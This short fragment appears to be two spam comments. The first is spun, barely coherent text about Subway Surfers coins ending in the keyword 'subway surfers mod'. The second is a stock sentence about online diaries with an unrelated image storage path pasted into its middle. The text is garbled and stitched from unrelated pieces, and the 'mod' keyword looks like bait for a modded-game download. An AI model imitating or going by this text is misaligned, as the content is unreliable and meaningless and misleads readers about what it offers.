  2. Continue looking for the protect. Other than contributing the metro surfer coins, regardless you have to discover your way around. subway surfers mod

  3. One of those online diaries that has left a significant impact on thehearts of the individuals.